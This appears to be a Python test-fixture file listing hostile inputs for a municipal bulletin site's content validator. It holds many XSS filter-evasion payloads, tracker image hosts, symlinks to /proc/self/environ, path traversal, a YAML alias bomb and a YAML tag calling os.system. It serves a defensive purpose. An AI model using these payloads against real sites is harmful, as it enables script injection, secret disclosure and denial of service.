"""The hostile set: what an attacker with an editor's account would put in a pull request.

Every class of attack on the site (script in frontmatter values and bodies, links the
validator's old parser did not see, attribute lists, admonitions, tabs in a
scheme, forms, ``<base>``, refresh, styles, frames, tracking images, pages
outside ``notizie/``, symlinks, paths out of ``content/``, YAML bombs, huge
files) and the OWASP XSS filter-evasion cheat sheet's vectors that still
apply to a modern browser. Each case says what ``validate`` must do with it:
``refused`` (a problem naming the file, and for a body the line) or
``inert`` (accepted: it is only text on the page).
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from site_tools.content import limits

from .conftest import Town, good

REFUSED, INERT = "refused", "inert"
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

#: (id, Markdown payload in a bulletin's body, expectation, line of the payload the problem points at)
BODIES: list[tuple[str, str, str, int]] = [
    # Markdown that the site's parser reads as links, images and attributes.
    ("md-link-javascript", "[clic](javascript:alert(1))", REFUSED, 0),
    ("md-link-mixed-case", "[clic](JaVaScRiPt:alert(1))", REFUSED, 0),
    ("md-link-reference", "[clic][r]\n\n[r]: javascript:alert(1)", REFUSED, 2),
    ("md-link-autolink", "<javascript:alert(1)>", REFUSED, 0),
    ("md-link-tab-in-scheme", "[clic](java\tscript:alert(1))", REFUSED, 0),
    ("md-link-entity-scheme", "[clic](&#106;avascript:alert(1))", REFUSED, 0),
    ("md-link-data", f"[clic](data:text/html;base64,{B64_SCRIPT})", REFUSED, 0),
    ("md-link-vbscript", "[clic](vbscript:msgbox(1))", REFUSED, 0),
    ("md-image-javascript", "![x](javascript:alert(1))", REFUSED, 0),
    ("md-attr-onclick", 'Paragrafo.\n{: onclick="alert(1)" }', REFUSED, 1),
    ("md-attr-href-javascript", '[clic](https://www.example.it){: href="javascript:alert(1)" }', REFUSED, 0),
    ("md-attr-onmouseover", '[clic](https://www.example.it){: onmouseover="alert(1)" }', REFUSED, 0),
    ("md-attr-style", 'Testo.\n{: style="background:url(javascript:alert(1))" }', REFUSED, 1),
    ("md-heading-attr", '## Titolo {: onclick="alert(1)" }', REFUSED, 0),
    ("md-heading-html", "## <img src=x onerror=alert(1)> Titolo", REFUSED, 0),
    ("md-admonition-script", "!!! note\n    Testo.\n\n    <script>alert(1)</script>", REFUSED, 3),
    ("md-admonition-title", '!!! note "<img src=x onerror=alert(1)>"\n    Testo.', REFUSED, 0),
    ("md-heading-clobbers-theme-id", "## __config", REFUSED, 0),
    ("md-image-tracker", "![pixel](https://tracker.example/p.gif)", REFUSED, 0),
    ("md-image-protocol-relative", "![pixel](//tracker.example/p.gif)", REFUSED, 0),
    ("md-div-markdown-attribute", '<div markdown="1">[clic](javascript:alert(1))</div>', REFUSED, 0),
    ("md-code-inline", "`<script>alert(1)</script>`", INERT, 0),
    ("md-code-fence", "```html\n<script>alert(1)</script>\n```", INERT, 0),
    ("md-escaped-text", "&lt;script&gt;alert(1)&lt;/script&gt;", INERT, 0),
    # Raw HTML: scripts and event handlers.
    ("script", "<script>alert(1)</script>", REFUSED, 0),
    ("script-src", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>", REFUSED, 0),
    ("script-extra-brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', REFUSED, 0),
    ("script-after-malformed-img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', REFUSED, 0),
    ("img-onerror", "<img src=x onerror=alert(1)>", REFUSED, 0),
    ("img-onerror-spaces", '<img src="x" alt="x" onerror    =   "alert(1)">', REFUSED, 0),
    ("img-slash-separated", "<img/src=x/onerror=alert(1)>", REFUSED, 0),
    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>", REFUSED, 0),
    ("svg-onload", "<svg/onload=alert(1)>", REFUSED, 0),
    ("svg-script", "<svg><script>alert(1)</script></svg>", REFUSED, 0),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", REFUSED, 0),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>', REFUSED, 0),
    (
        "svg-foreignobject-iframe",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        REFUSED,
        0,
    ),
    ("body-onload", "<BODY ONLOAD=alert('XSS')>", REFUSED, 0),
    ("body-onload-garbage", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', REFUSED, 0),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>", REFUSED, 0),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>", REFUSED, 0),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>", REFUSED, 0),
    ("unknown-tag-onclick", "<x onclick=alert(1)>clic</x>", REFUSED, 0),
    ("template-script", "<template><script>alert(1)</script></template>", REFUSED, 0),
    ("comment-breakout", "<!-- --!><img src=x onerror=alert(1)> -->", REFUSED, 0),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', REFUSED, 0),
    ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", REFUSED, 0),
    ("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->", INERT, 0),
    # Raw HTML: addresses that run code, however they are spelled.
    ("img-javascript", "<IMG SRC=\"javascript:alert('XSS');\">", REFUSED, 0),
    ("img-javascript-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>", INERT, 0),  # Python-Markdown: text, not HTML
    (
        "img-decimal-entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
        "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        REFUSED,
        0,
    ),
    (
        "img-padded-decimal-entities",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
        "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
        "&#0000039&#0000041>",
        REFUSED,
        0,
    ),
    (
        "img-hex-entities-no-semicolon",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
        "&#x58&#x53&#x53&#x27&#x29>",
        REFUSED,
        0,
    ),
    ("img-tab-in-scheme", "<IMG SRC=\"jav\tascript:alert('XSS');\">", REFUSED, 0),
    ("img-tab-entity-in-scheme", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", REFUSED, 0),
    ("img-newline-entity-in-scheme", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", REFUSED, 0),
    ("img-control-char-before-scheme", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">", REFUSED, 0),
    ("a-spaces-before-scheme", '<a href="  javascript:alert(1)">clic</a>', REFUSED, 0),
    ("a-entity-in-scheme", '<a href="javas&#99;ript:alert(1)">clic</a>', REFUSED, 0),
    ("a-data-html", f'<a href="data:text/html;base64,{B64_SCRIPT}">clic</a>', REFUSED, 0),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">clic</a>', REFUSED, 0),
    ("a-file", '<a href="file:///etc/passwd">clic</a>', REFUSED, 0),
    (
        "a-quote-entities-stay-inside",
        '<a href="https://www.example.it/&quot;onmouseover=&quot;alert(1)">clic</a>',
        INERT,
        0,
    ),
    ("a-target-blank", '<a href="https://www.example.it" target="_blank">clic</a>', REFUSED, 0),
    ("a-ping-tracker", '<a href="https://www.example.it" ping="https://tracker.example/">clic</a>', REFUSED, 0),
    ("img-tracker", '<img src="https://tracker.example/p.gif" alt="">', REFUSED, 0),
    ("img-tracker-backslashes", '<img src="\\\\tracker.example/p.gif" alt="">', REFUSED, 0),
    ("img-srcset-tracker", '<img src="x.png" srcset="https://tracker.example/p.gif 1x" alt="">', REFUSED, 0),
    ("dom-clobbering-config", '<p id="__config">{"search": "https://xss.example/worker.js"}</p>', REFUSED, 0),
    # Raw HTML: elements that change the page around them.
    ("iframe", '<iframe src="https://maps.example/embed"></iframe>', REFUSED, 0),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>', REFUSED, 0),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', REFUSED, 0),
    ("object-javascript", '<object data="javascript:alert(1)"></object>', REFUSED, 0),
    ("embed-svg-data", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', REFUSED, 0),
    ("form-action-javascript", '<form action="javascript:alert(1)"><button>Invia</button></form>', REFUSED, 0),
    ("button-formaction", '<button formaction="javascript:alert(1)">clic</button>', REFUSED, 0),
    ("base-href", '<base href="javascript:alert(1)//">', REFUSED, 0),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', REFUSED, 0),
    (
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">',
        REFUSED,
        0,
    ),
    ("style-import", "<style>@import 'https://xss.example/xss.css';</style>", REFUSED, 0),
    (
        "style-javascript-url",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        REFUSED,
        0,
    ),
    ("style-attribute-expression", "<div style=\"width: expression(alert('XSS'));\">x</div>", REFUSED, 0),
    ("style-attribute-url", "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>", REFUSED, 0),
    ("link-stylesheet", '<link rel="stylesheet" href="https://xss.example/xss.css">', REFUSED, 0),
]

#: (id, frontmatter field, value): text that the site must show as text, never run.
FIELDS: list[tuple[str, str, str]] = [
    ("title-script", "title", '"><script>alert(1)</script>'),
    ("title-closes-title", "title", "</title><script>alert(1)</script>"),
    ("title-entities", "title", "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("title-closes-script", "title", "</script><script>alert(1)</script>"),
    ("title-attr-list", "title", 'Chiusura {: onclick="alert(1)" }'),
    ("title-markdown-link", "title", "Avviso [clic](javascript:alert(1))"),
    ("summary-breaks-meta", "summary", "\"><img src=x onerror=alert(1)> sintesi dell'avviso di prova"),
    ("area-svg", "area", "<svg/onload=alert(1)> zona"),
    ("office-img", "office", "<img src=x onerror=alert(1)> ufficio"),
    ("event-location-script", "event", "<script>alert(1)</script> piazza"),
    ("urgent-title-in-banner", "urgent", "<img src=x onerror=alert(1)> allerta"),
]

#: (id, file under content/, text, expectation, line): the site's own pages, never checked before.
PAGES: list[tuple[str, str, str, str, int | None]] = [
    ("page-new-with-script", "pagina-nuova.md", "# Nuova pagina\n\n<script>alert(1)</script>\n", REFUSED, 3),
    (
        "page-privacy-iframe",
        "privacy.md",
        "# Privacy\n\nTesto.\n\n<iframe src=https://x.example></iframe>\n",
        REFUSED,
        5,
    ),
    ("page-heading-img", "pagina-titoli.md", "# Pagina\n\n## <img src=x onerror=alert(1)>\n", REFUSED, 3),
    (
        "page-template-redirect",
        "vai.md",
        "---\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n\n# Vai\n",
        REFUSED,
        2,
    ),
    (
        "page-author-breaks-meta",
        "autore.md",
        '---\nauthor: "\\"><script>alert(1)</script>"\n---\n\n# Autore\n',
        REFUSED,
        2,
    ),
    (
        "page-title-closes-title",
        "titolo.md",
        "---\ntitle: </title><script>alert(1)</script>\n---\n\nTesto.\n",
        INERT,
        None,
    ),
    (
        "page-description-breaks-meta",
        "descrizione.md",
        '---\ndescription: "\\"><script>alert(1)</script>"\n---\n\n# D\n',
        INERT,
        None,
    ),
    ("page-h1-entities", "entita.md", "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n\nTesto.\n", INERT, None),
]

BOMB = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
    "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
)


@dataclass(frozen=True)
class Case:
    """One hostile input: ``write`` puts it in a town and returns the file ``validate`` must name."""

    id: str
    expect: str
    write: Callable[[Town, Path], Path]
    line: int | None = None  # the line the problem must point at, when it is a body's
    in_site: bool = True  # built (with validation bypassed) to prove the site inert anyway
    message: str = ""  # words the problem must contain


def _bulletin(town: Town, name: str, extra: str = "", body: str = "Testo dell'avviso.\n") -> Path:
    slug = name.replace("_", "-").lower()
    return town.write(f"2026-11-20-{slug}.md", good(id=slug) + extra, body)


def body_case(case_id: str, payload: str, expect: str, line: int) -> Case:
    # conftest.Town.write: 7 lines of frontmatter, then a blank line: the body starts at line 9.
    body = f"Testo dell'avviso.\n\n{payload}\n"
    return Case(case_id, expect, lambda town, outside: _bulletin(town, case_id, body=body), line=9 + 2 + line)


def field_case(case_id: str, key: str, value: str) -> Case:
    def write(town: Town, outside: Path) -> Path:
        path = _bulletin(town, case_id)
        text = path.read_text(encoding="utf-8")
        if key == "urgent":
            text = text.replace(
                "title: Chiusura di via Roma per lavori", f"title: {json.dumps(value)}\npriority: urgent"
            )
        elif key in ("title", "summary"):
            prefix = f"{key}: "
            start = text.index(prefix)
            end = text.index("\n", start)
            text = text[:start] + prefix + json.dumps(value) + text[end:]
        elif key == "event":
            text = text.replace(
                "---\n\n", f"event:\n  start: 2026-11-21 10:00\n  location: {json.dumps(value)}\n---\n\n", 1
            )
        else:
            text = text.replace("---\n\n", f"{key}: {json.dumps(value)}\n---\n\n", 1)
        path.write_text(text, encoding="utf-8")
        return path

    return Case(case_id, INERT, write)


def page_case(case_id: str, name: str, text: str, expect: str, line: int | None) -> Case:
    def write(town: Town, outside: Path) -> Path:
        path = town.root / "content" / name
        path.write_text(text, encoding="utf-8")
        return path

    return Case(case_id, expect, write, line=line)


def _symlink(link: Path, target: Path) -> Path:
    link.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, link)
    return link


def _secret_file(outside: Path, name: str, text: str = "SEGRETO-DELLA-MACCHINA\n") -> Path:
    path = outside / name
    path.write_text(text, encoding="utf-8")
    return path


def _sized(path: Path, size: int, head: bytes = b"") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as f:
        f.write(head)
        f.truncate(size)  # sparse: no 50 MB written to the disk
    return path


def _image_field(value: str) -> Callable[[Town, Path], Path]:
    def write(town: Town, outside: Path) -> Path:
        _secret_file(outside, "segreto.png")
        slug = re.sub(r"[^a-z0-9]+", "-", value.lower()).strip("-")
        return _bulletin(town, f"immagine-{slug}", extra=f"image: {json.dumps(value)}\n")

    return write


def _frontmatter(name: str, yaml_text: str) -> Callable[[Town, Path], Path]:
    def write(town: Town, outside: Path) -> Path:
        path = town.bulletins / "2026" / f"2026-11-20-{name}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"---\n{yaml_text}---\n\nTesto.\n", encoding="utf-8")
        return path

    return write


def file_cases() -> list[Case]:
    """Files and YAML: refused by validate (and by the build, which runs the same checks first)."""
    big = limits.BULLETIN_MAX_BYTES + 1
    huge_list = "[" + ", ".join(["urgent"] * 1500) + "]"
    return [
        Case(
            "symlink-bulletin",
            REFUSED,
            lambda t, o: _symlink(
                t.bulletins / "2026" / "2026-11-20-link.md",
                _secret_file(o, "avviso.md", "---\n" + good(id="fuori") + "---\n\nSEGRETO\n"),
            ),
            message="collegamento simbolico",
            in_site=False,
        ),
        Case(
            "symlink-image-to-secret",
            REFUSED,
            lambda t, o: _symlink(t.root / "content" / "img" / "logo.png", _secret_file(o, "chiave.png")),
            message="collegamento simbolico",
            in_site=False,
        ),
        Case(
            "symlink-proc-environ",
            REFUSED,
            lambda t, o: _symlink(t.root / "content" / "ambiente.txt", Path("/proc/self/environ")),
            message="collegamento simbolico",
            in_site=False,
        ),
        Case(
            "symlink-directory",
            REFUSED,
            lambda t, o: _symlink(t.root / "content" / "allegati", _secret_file(o, "x.pdf").parent),
            message="collegamento simbolico",
            in_site=False,
        ),
        Case(
            "image-field-climbs-out", REFUSED, _image_field("../../../../segreto.png"), message="fuori", in_site=False
        ),
        Case(
            "image-field-absolute-climbs-out",
            REFUSED,
            _image_field("/../../segreto.png"),
            message="fuori",
            in_site=False,
        ),
        Case(
            "image-field-other-site",
            REFUSED,
            _image_field("https://tracker.example/p.png"),
            message="altro sito",
            in_site=False,
        ),
        Case(
            "image-field-protocol-relative",
            REFUSED,
            _image_field("//tracker.example/p.png"),
            message="altro sito",
            in_site=False,
        ),
        Case(
            "body-link-climbs-out",
            REFUSED,
            lambda t, o: _bulletin(t, "link-fuori", body="[chiave](../../../../segreto.txt)\n"),
            line=9,
            in_site=False,
        ),
        Case(
            "bulletin-50-mb",
            REFUSED,
            lambda t, o: _sized(t.bulletins / "2026" / "2026-11-20-enorme.md", 50 * 1024 * 1024, b"---\n"),
            message="pesa",
            in_site=False,
        ),
        Case(
            "bulletin-just-over-the-limit",
            REFUSED,
            lambda t, o: _sized(t.bulletins / "2026" / "2026-11-20-grande.md", big, b"---\n"),
            message="pesa",
            in_site=False,
        ),
        Case(
            "image-over-the-limit",
            REFUSED,
            lambda t, o: _sized(t.root / "content" / "img" / "foto.jpg", limits.IMAGE_MAX_BYTES + 1, b"\xff\xd8"),
            message="pesa",
            in_site=False,
        ),
        Case(
            "page-over-the-limit",
            REFUSED,
            lambda t, o: _sized(t.root / "content" / "privacy.md", limits.PAGE_MAX_BYTES + 1, b"# P\n"),
            message="pesa",
            in_site=False,
        ),
        Case(
            "html-file-in-content",
            REFUSED,
            lambda t, o: _write(t.root / "content" / "pagina.html", "<script>alert(1)</script>"),
            message="HTML",
            in_site=False,
        ),
        Case(
            "svg-file-in-content",
            REFUSED,
            lambda t, o: _write(t.root / "content" / "img" / "logo.svg", '<svg onload="alert(1)"/>'),
            message="SVG",
            in_site=False,
        ),
        Case(
            "js-file-in-content",
            REFUSED,
            lambda t, o: _write(t.root / "content" / "x.js", "alert(1)"),
            message="JavaScript",
            in_site=False,
        ),
        Case("yaml-alias-bomb-566-bytes", REFUSED, _frontmatter("bomba", BOMB), message="ancora", in_site=False),
        Case(
            "yaml-anchor",
            REFUSED,
            _frontmatter("ancora", good(id="ancora") + "area: &z Centro\n"),
            message="ancora",
            in_site=False,
        ),
        Case(
            "yaml-deep-nesting",
            REFUSED,
            _frontmatter("profondo", good(id="profondo") + "area: " + "[" * 60 + "]" * 60 + "\n"),
            message="livelli",
            in_site=False,
        ),
        Case(
            "yaml-huge-frontmatter",
            REFUSED,
            _frontmatter("lungo", good(id="lungo") + "area: " + "x" * (limits.FRONTMATTER_MAX_BYTES + 10) + "\n"),
            message="troppo lunga",
            in_site=False,
        ),
        Case(
            "yaml-huge-integer",
            REFUSED,
            _frontmatter("numero", "id: " + "9" * 6000 + "\n"),
            message="YAML",
            in_site=False,
        ),
        Case(
            "yaml-python-tag",
            REFUSED,
            _frontmatter("tag", good(id="tag") + 'area: !!python/object/apply:os.system ["echo pwned"]\n'),
            message="YAML",
            in_site=False,
        ),
        Case(
            "yaml-huge-value-in-message",
            REFUSED,
            _frontmatter("valore", good(id="valore") + f"priority: {huge_list}\n"),
            message="elenco di 1500",
            in_site=False,
        ),
        Case(
            "page-yaml-alias-bomb",
            REFUSED,
            lambda t, o: _write(t.root / "content" / "bomba.md", f"---\n{BOMB}---\n\n# Bomba\n"),
            message="ancora",
            in_site=False,
        ),
    ]


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def all_cases() -> list[Case]:
    return [
        *(body_case(*b) for b in BODIES),
        *(field_case(*f) for f in FIELDS),
        *(page_case(*p) for p in PAGES),
        *file_cases(),
    ]
